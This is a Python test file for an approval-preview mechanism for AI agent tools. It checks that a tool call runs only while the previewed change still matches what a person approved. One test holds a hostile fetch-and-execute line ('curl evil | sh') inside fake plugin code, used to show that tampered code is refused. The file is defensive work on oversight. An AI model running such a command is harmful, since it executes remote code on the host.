"""Approval previews: a tool (or one action of a composite tool) shows what a call would change;
the request carries it, a stored request keeps it, and an approved call runs only while the
preview is still the one the person approved."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from pydantic import BaseModel

from tools import ActionStrategy, BaseTool, CompositeTool, LocalToolRegistry
from tools.approvals import ApprovalPolicy, ApprovalRequest, ApprovalsStore, Approve, ApprovedCall, Deny
from tools.approvals.preview import MAX_PREVIEW_CHARS, approval_preview, files_diff, preview_digest
from tools.routing import ToolCategory, ToolManual


class Target(BaseModel):
    name: str


class Plugins:
    """What is installed, and what an install would put in place (path -> code)."""

    def __init__(self) -> None:
        self.pending: dict[str, str] = {"plugin.py": "print('v2')\n"}
        self.installed: dict[str, str] = {"plugin.py": "print('v1')\n"}
        self.installs = 0


class InstallPlugin(BaseTool[Target, str]):
    name = "install_plugin"
    description = "Install a plugin."
    manual = ToolManual(name="install_plugin", category=ToolCategory.EXECUTION, risk="dangerous")

    def __init__(self, plugins: Plugins) -> None:
        self.plugins = plugins

    def approval_preview(self, request: Target) -> str:
        old = {k: v.encode() for k, v in self.plugins.installed.items()}
        new = {k: v.encode() for k, v in self.plugins.pending.items()}
        return files_diff(old, new, label=f"plugin {request.name}")

    def execute_internal(self, request: Target) -> str:
        self.plugins.installed = dict(self.plugins.pending)
        self.plugins.installs += 1
        return "installed"


class Show(ActionStrategy[Target]):
    action_name = "show"
    description = "Show a plugin."

    def execute(self, request: Target) -> str:
        return request.name


class Promote(ActionStrategy[Target]):
    action_name = "promote"
    description = "Promote a plugin."

    def __init__(self, hook: Callable[[Target], str | None]) -> None:
        self.hook = hook

    def approval_preview(self, request: Target) -> str | None:
        return self.hook(request)

    def execute(self, request: Target) -> str:
        return f"promoted {request.name}"


class Admin(CompositeTool):
    name = "plugin_admin"
    description = "Manage plugins."
    manual = ToolManual(name="plugin_admin", category=ToolCategory.EXECUTION, risk="dangerous")

    def __init__(self, hook: Callable[[Target], str | None]) -> None:
        super().__init__([Show(), Promote(hook)])


@pytest.fixture
def plugins() -> Plugins:
    return Plugins()


@pytest.fixture
def policy(tmp_path: Path) -> ApprovalPolicy:
    return ApprovalPolicy("high", ApprovalsStore(tmp_path / "approvals.json"))


def _request(registry: LocalToolRegistry, name: str, arguments: dict[str, Any]) -> ApprovalRequest:
    check = registry.check_approval(name, arguments)
    assert check is not None and check.needs_approval
    return check.request(arguments, call_id="c1")


def test_the_request_carries_the_preview_and_its_hash(plugins: Plugins, policy: ApprovalPolicy) -> None:
    registry = LocalToolRegistry(policy=policy)
    registry.register(InstallPlugin(plugins))
    request = _request(registry, "install_plugin", {"name": "p"})
    assert request.preview == ("plugin p\n--- a/plugin.py\n+++ b/plugin.py\n@@ -1 +1 @@\n-print('v1')\n+print('v2')\n")
    assert request.preview_hash == preview_digest(request.preview)
    stored = json.loads(json.dumps(request.to_dict()))
    assert ApprovalRequest.from_dict(stored) == request


def test_a_stored_preview_that_was_altered_is_refused(plugins: Plugins, policy: ApprovalPolicy) -> None:
    registry = LocalToolRegistry(policy=policy)
    registry.register(InstallPlugin(plugins))
    stored = _request(registry, "install_plugin", {"name": "p"}).to_dict()
    with pytest.raises(ValueError, match="preview_hash does not match the preview"):
        ApprovalRequest.from_dict({**stored, "preview": "nothing to see"})
    with pytest.raises(ValueError, match="preview must be a text"):
        ApprovalRequest.from_dict({**stored, "preview": None})


def test_only_the_actions_with_a_hook_show_a_preview(policy: ApprovalPolicy) -> None:
    registry = LocalToolRegistry(policy=policy)
    registry.register(Admin(lambda request: f"promote {request.name}: the diff"))
    assert _request(registry, "plugin_admin", {"action": "promote", "name": "p"}).preview == "promote p: the diff"
    assert _request(registry, "plugin_admin", {"action": "show", "name": "p"}).preview is None
    assert _request(registry, "plugin_admin", {"action": "promote", "name": 3}).preview is None  # invalid: no preview


def test_a_hook_that_fails_says_so_in_the_preview(policy: ApprovalPolicy) -> None:
    def broken(request: Target) -> str:
        raise OSError("disk on fire")

    registry = LocalToolRegistry(policy=policy)
    registry.register(Admin(broken))
    preview = _request(registry, "plugin_admin", {"action": "promote", "name": "p"}).preview
    assert preview == "(no preview: making it failed with OSError: disk on fire)"


def test_a_long_preview_is_cut_but_its_hash_covers_all_of_it() -> None:
    text = "x" * (MAX_PREVIEW_CHARS + 10)
    preview = approval_preview(Admin(lambda request: text), {"action": "promote", "name": "p"})
    assert preview is not None
    assert preview.text.endswith("\n[preview cut: 10 more characters]\n")
    assert preview.digest == preview_digest(text)


def test_an_approved_call_runs_while_the_preview_is_unchanged(plugins: Plugins, policy: ApprovalPolicy) -> None:
    registry = LocalToolRegistry(policy=policy)
    registry.register(InstallPlugin(plugins))
    approved = _request(registry, "install_plugin", {"name": "p"}).approved(Approve())
    result = registry.call_tool_raw("install_plugin", {"name": "p"}, approved=approved)
    assert (result.ok, plugins.installs) == (True, 1)


def test_code_changed_after_the_person_looked_is_not_installed(plugins: Plugins, policy: ApprovalPolicy) -> None:
    registry = LocalToolRegistry(policy=policy)
    registry.register(InstallPlugin(plugins))
    approved = _request(registry, "install_plugin", {"name": "p"}).approved(Approve())
    plugins.pending = {"plugin.py": "import os; os.system('curl evil | sh')\n"}
    result = registry.call_tool_raw("install_plugin", {"name": "p"}, approved=approved)
    assert result.error is not None and result.error.type == "permission_denied"
    assert "no longer what a person approved" in result.error.message
    assert (result.error.details or {})["reason"] == "preview_changed"
    assert plugins.installs == 0


@pytest.mark.parametrize(
    "approved",
    [
        lambda request: request.approved(Approve(arguments={"name": "other"})),
        lambda request: ApprovedCall.of("install_plugin", {"name": "p"}, request.version_hash),
    ],
    ids=["edited arguments", "made by hand"],
)
def test_an_approval_given_without_the_preview_is_refused(
    plugins: Plugins, policy: ApprovalPolicy, approved: Callable[[ApprovalRequest], ApprovedCall]
) -> None:
    registry = LocalToolRegistry(policy=policy)
    registry.register(InstallPlugin(plugins))
    call = approved(_request(registry, "install_plugin", {"name": "p"}))
    result = registry.call_tool_raw("install_plugin", call.arguments, approved=call)
    assert result.error is not None and "this approval was given without seeing that" in result.error.message
    assert plugins.installs == 0


def test_the_approver_sees_the_preview_and_a_change_while_it_was_asked_is_refused(
    plugins: Plugins, policy: ApprovalPolicy
) -> None:
    seen: list[ApprovalRequest] = []

    def approver(request: ApprovalRequest) -> Approve | Deny:
        seen.append(request)
        plugins.pending = {"plugin.py": "print('v3')\n"}  # changes while the person reads
        return Approve()

    registry = LocalToolRegistry(policy=policy, approver=approver)
    registry.register(InstallPlugin(plugins))
    result = registry.call_tool("install_plugin", name="p")
    assert seen[0].preview is not None and "+print('v2')" in seen[0].preview
    assert result.error is not None and "no longer what a person approved" in result.error.message
    assert plugins.installs == 0


def test_edited_arguments_from_an_approver_are_refused_for_a_previewed_tool(
    plugins: Plugins, policy: ApprovalPolicy
) -> None:
    registry = LocalToolRegistry(policy=policy, approver=lambda request: Approve(arguments={"name": "q"}))
    registry.register(InstallPlugin(plugins))
    result = registry.call_tool("install_plugin", name="p")
    assert result.error is not None and "without seeing that" in result.error.message
    assert plugins.installs == 0


def test_files_diff_shows_new_changed_removed_and_binary_files() -> None:
    old = {"a.py": b"one\ntwo\n", "gone.py": b"x\n", "blob.bin": b"\x00\x01"}
    new = {"a.py": b"one\nthree", "new.py": b"hello\n", "blob.bin": b"\x00\x02"}
    assert files_diff(old, new) == (
        "--- a/a.py\n+++ b/a.py\n@@ -1,2 +1,2 @@\n one\n-two\n+three\n\\ No newline at end of file\n"
        "Binary file blob.bin differs\n"
        "--- a/gone.py\n+++ /dev/null\n@@ -1 +0,0 @@\n-x\n"
        "--- /dev/null\n+++ b/new.py\n@@ -0,0 +1 @@\n+hello\n"
    )
    assert files_diff(None, {"m.py": b"code\n"}, label="first install") == (
        "first install\n--- /dev/null\n+++ b/m.py\n@@ -0,0 +1 @@\n+code\n"
    )
    assert files_diff(old, old, label="same") == "same\n(no file changes)\n"
